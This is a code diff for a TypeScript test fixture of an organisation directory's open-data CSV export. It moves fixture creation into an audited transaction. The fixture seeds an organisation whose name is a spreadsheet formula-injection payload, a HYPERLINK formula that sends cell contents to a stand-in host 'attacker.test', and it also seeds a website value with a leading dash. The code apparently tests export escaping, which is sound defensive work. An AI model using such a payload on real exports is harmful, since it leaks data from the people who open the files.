@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
-import { bumpRegistryVersion } from '../../src/models/registryVersion';
+import { systemActor } from '../../src/audit/actor';
 import { Organisation } from '../../src/models/organisation';
-import { syncOrganisationDerivedFields } from '../../src/models/derivedFields';
+import { syncOrganisationDerivedFields } from '../../src/registry/derivedFields';
 import { identityKeyOf, toSearchKey } from '../../src/models/searchKey';
 import type { TestApp } from '../helpers/app';
 import { loadFixtureRegistry, resultSlugs } from '../directory/fixtures';
@@ -11,9 +11,9 @@ export const INJECTION_NAME = '=HYPERLINK("http://attacker.test/?leak="&A1,"Clic
 export const INJECTION_SLUG = 'formula-injection-test';
 
 /** The directory fixtures plus one organisation whose name is a CSV injection payload. */
-export async function loadOpenDataFixtures(): Promise<void> {
-  await loadFixtureRegistry();
-  const created = await Organisation.create({
+export async function loadOpenDataFixtures(testApp: TestApp): Promise<void> {
+  await loadFixtureRegistry(testApp.services);
+  const fields = {
     slug: INJECTION_SLUG,
     name: INJECTION_NAME,
     searchKey: toSearchKey(INJECTION_NAME),
@@ -23,9 +23,13 @@ export async function loadOpenDataFixtures(): Promise<void> {
     sector: 'non-profit',
     website: '-https://attacker.test',
     memberships: [{ initiative: 'paris-call', joinedAt: new Date('2023-04-05T00:00:00Z'), status: 'active' }],
+  };
+  await testApp.services.recordChange(systemActor('test'), 'organisation.created', async (tx) => {
+    const [created] = await Organisation.create([fields], { session: tx.session });
+    if (!created) throw new Error('fixture organisation not created');
+    await syncOrganisationDerivedFields(tx, created._id);
+    return { subject: { kind: 'organisation', id: String(created._id) }, organisation: created._id, result: null };
   });
-  await syncOrganisationDerivedFields(created._id);
-  await bumpRegistryVersion();
 }
 
 /** The slugs the directory page lists for a query, every result on one page. */
